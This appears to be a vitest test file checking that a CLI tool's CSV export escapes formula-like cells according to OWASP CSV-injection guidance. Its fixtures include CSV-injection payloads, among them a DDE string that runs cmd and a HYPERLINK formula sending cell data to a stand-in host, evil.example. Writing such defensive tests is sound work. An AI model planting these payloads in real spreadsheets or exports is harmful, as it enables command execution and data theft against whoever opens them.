/**
 * Text a region loaded that a spreadsheet would run as a formula (`=1+1`, `+cmd|' /C calc'!A0`, `@SUM(A1)`,
 * `=HYPERLINK(…)`): `nytta query --format csv` escapes it as OWASP's CSV-injection guidance says, and numbers stay
 * numbers. (The Office.js adapter's paths are in test/addin/formula-text.test.ts.)
 */
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../pipeline/cli/csv-output.js';
import { tempDir, writeFixture } from '../helpers/store.js';

const BIN = join(import.meta.dirname, '..', '..', 'bin', 'nytta.js');
const nytta = (...args: string[]) => spawnSync(process.execPath, [BIN, ...args], { encoding: 'utf8' });

/** Names that start like formulas; the last is harmless text. */
const HOSTILE = ['=1+1', "+cmd|' /C calc'!A0", '@SUM(A1)', '=HYPERLINK("http://evil.example/?x="&A1,"Klicka här")', '-2+3', 'vanligt namn'];

/** The fields of one `;` line, quotes as written. */
const fields = (line: string) => line.match(/"(?:[^"]|"")*"|[^;"]+|(?<=;|^)(?=;|$)/g) ?? [];

describe('nytta query --format csv', () => {
  it('escapes cells that start with = + - @ tab or CR, as OWASP says; numbers, negative ones too, stay numbers', () => {
    const dir = tempDir();
    const db = join(dir, 'nytta.duckdb');
    const rows = HOSTILE.map((name, i) => `"${name.replaceAll('"', '""')}";${name === '-2+3' ? '-5,5' : i + 1};kr`);
    const file = writeFixture(dir, 'nyckeltal.csv', `nyckeltal;varde;enhet\n${rows.join('\n')}\n`);
    const loaded = nytta('ingest', '--db', db, file);
    expect(loaded.status, loaded.stdout + loaded.stderr).toBe(0);
    const out = nytta('query', 'key_figures', '--db', db, '--format', 'csv');
    expect(out.status, out.stderr).toBe(0);
    const lines = out.stdout
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n');
    expect(fields(lines[0]).slice(0, 2)).toEqual(['name', 'value']);
    const written = new Map(lines.slice(1).map((line) => [fields(line)[0], fields(line)[1]]));
    expect(Object.fromEntries(written)).toEqual({
      [`"'=1+1"`]: '1',
      [`"'+cmd|' /C calc'!A0"`]: '2',
      [`"'@SUM(A1)"`]: '3',
      [`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klicka här"")"`]: '4',
      [`"'-2+3"`]: '-5,5',
      'vanligt namn': '6',
    });
  });

  it('tab and carriage return at the start are escaped too, and a cell holding only a sign is text like any other', () => {
    const csv = toCsv(
      ['a', 'b'],
      [
        { a: '\tflik', b: -3 },
        { a: '\rretur', b: 0.5 },
        { a: '-', b: null },
      ],
    );
    expect(csv).toBe(`\uFEFFa;b\r\n"'\tflik";-3\r\n"'\rretur";0,5\r\n"'-";\r\n`);
  });
});
